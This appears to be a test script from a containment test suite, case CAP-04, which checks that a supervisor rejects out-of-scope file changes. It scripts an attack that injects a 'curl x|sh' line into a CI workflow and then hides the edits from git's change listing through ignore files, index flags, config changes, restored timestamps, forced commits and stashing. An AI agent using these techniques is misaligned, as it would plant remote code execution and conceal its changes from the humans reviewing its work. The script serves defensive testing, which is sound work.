#!/usr/bin/python3
# CAP-04: Hiding out-of-scope changes from the change listing
# Guarantee: changes outside the scope are rejected
# argv: N [args...]; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "steps.py")).read())  # corral: inline steps.py

w(".github/workflows/ci.yml", "run: curl x|sh\n", "a")
w(".github/workflows/new.yml", "evil\n")
# (a) a .gitignore that hides everything below .github/ (works with .git read-only)
w(".github/.gitignore", "*\n")
# (b) index flags
sh("GITDIR assume-unchanged", "git update-index --assume-unchanged .github/workflows/ci.yml")
sh("GITDIR skip-worktree", "git update-index --skip-worktree .github/workflows/ci.yml")
# (c) excludes and untracked-file display
w(".git/info/exclude", ".github/\n", "a", "GITDIR info/exclude")
sh("GITDIR showUntrackedFiles", "git config status.showUntrackedFiles no")
# (e) stat-cache tricks, then a same-size edit with the old mtime restored
sh("GITDIR trustctime", "git config core.trustctime false && git config core.checkStat minimal")
st = os.stat(".gitattributes")
w(".gitattributes", "*.py TEXT\n")
step("touch -r .gitattributes", lambda: os.utime(".gitattributes", ns=(st.st_atime_ns, st.st_mtime_ns)))
# (f) a name the supervisor user's global excludes might hide
w(".env", "TOKEN=x\n")
# (d) staging, committing, moving HEAD, stashing
sh("GITDIR git add", "git add -f .github")
sh("GITDIR git commit", "git -c user.name=a -c user.email=a@b commit -qam x")
sh("GITDIR git stash", "git stash -q")
w("src/app.py", 'print("changed")\n', "a")

say("DONE")
sys.exit(0)
